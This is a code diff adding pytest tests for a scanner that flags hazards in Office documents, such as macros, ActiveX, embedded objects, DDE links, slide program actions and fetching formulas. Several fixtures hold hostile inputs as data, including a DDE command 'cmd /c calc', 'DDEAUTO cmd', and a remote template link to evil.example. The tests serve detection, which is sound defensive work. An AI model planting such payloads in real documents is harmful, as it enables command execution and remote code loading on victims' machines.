@@ -74,6 +74,58 @@ def test_parts_that_are_hazards_by_their_place(part: str, kind: str) -> None:
     assert [(h.kind, h.where) for h in seen.hazards] == [(kind, part)]
 
 
+def test_types_by_ending_and_by_relationship_count_as_well() -> None:
+    default = '<Default Extension="dat" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
+    seen = look(zipped({"[Content_Types].xml": CONTENT_TYPES.format(default), "xl/sheets/s.dat": "<x/>"}), "a.xlsx")
+    assert [(h.kind, h.where) for h in seen.hazards] == [("xlm-macro", "xl/sheets/s.dat")]
+    for kind, found in (("xlMacrosheet", "xlm-macro"), ("vbaProject", "vba-macro"), ("control", "activex")):
+        seen = look(word({"word/_rels/document.xml.rels": relationship(kind, "other/a.dat", external=False)}), "a.docx")
+        assert [(h.kind, h.where) for h in seen.hazards] == [(found, "word/other/a.dat")]
+
+
+def test_one_object_named_typed_and_related_is_one_hazard() -> None:
+    declared = "application/vnd.openxmlformats-officedocument.oleObject"
+    override = f'<Override PartName="/word/embeddings/a.bin" ContentType="{declared}"/>'
+    rels = {"word/_rels/document.xml.rels": relationship("oleObject", "embeddings/a.bin", external=False)}
+    seen = look(word({"word/embeddings/a.bin": compound({"CONTENTS": bytes(80)}), **rels}, types=override), "a.docx")
+    assert [(h.kind, h.where) for h in seen.hazards] == [("embedded-object", "word/embeddings/a.bin")]
+
+
+def test_the_list_of_types_is_found_in_any_letters() -> None:
+    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+    seen = look(zipped({"[content_types].XML": CONTENT_TYPES.format(""), "xl/x.xml": link}), "a.xlsx")
+    assert kinds(seen) == ["dde"]
+
+
+@pytest.mark.parametrize("name", ["word/document.xml", "word/footer.dat", "odd"])
+def test_fields_are_found_in_parts_of_any_name(name: str) -> None:
+    part = f'<w:document {WORD}><w:fldSimple w:instr="DDEAUTO cmd"/></w:document>'
+    assert kinds(look(word({name: part}), "a.docx")) == ["dde"]
+
+
+@pytest.mark.parametrize(("action", "found"), [("program", ["program-action"]), ("macro?name=x", ["program-action"]),
+                                               ("hlinkshowjump?jump=nextslide", []), ("hlinksldjump", [])])  # fmt: skip
+def test_actions_of_slides(action: str, found: list[str]) -> None:
+    click = f'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://{action}"/></p:sld>'
+    types = CONTENT_TYPES.format("")
+    assert kinds(look(zipped({"[Content_Types].xml": types, "ppt/slides/slide1.xml": click}), "a.pptx")) == found
+
+
+def test_formulas_that_fetch() -> None:
+    for formula, found in (("_xlfn.WEBSERVICE(&quot;http://x/&quot;)", ["external-relationship"]), ("SUM(A1)", [])):
+        sheet = f"<worksheet><f>{formula}</f></worksheet>"
+        parts = {"[Content_Types].xml": CONTENT_TYPES.format(""), "xl/worksheets/sheet1.xml": sheet}
+        assert kinds(look(zipped(parts), "a.xlsx")) == found
+
+
+@pytest.mark.parametrize(
+    "kind", ["image", "frame", "oleObject", "subDocument", "externalLinkPath", "video", "mailMergeSource"]
+)
+def test_whatever_is_fetched_from_outside_is_said(kind: str) -> None:
+    seen = look(word({"word/_rels/document.xml.rels": relationship(kind, "http://x.example/a")}), "a.docx")
+    assert [(h.kind, h.where) for h in seen.hazards] == [("external-relationship", "word/_rels/document.xml.rels")]
+
+
 def test_template_and_other_parts_from_outside() -> None:
     seen = look(
         word({"word/_rels/settings.xml.rels": relationship("attachedTemplate", "http://evil.example/t.dotm")}), "a.docx"
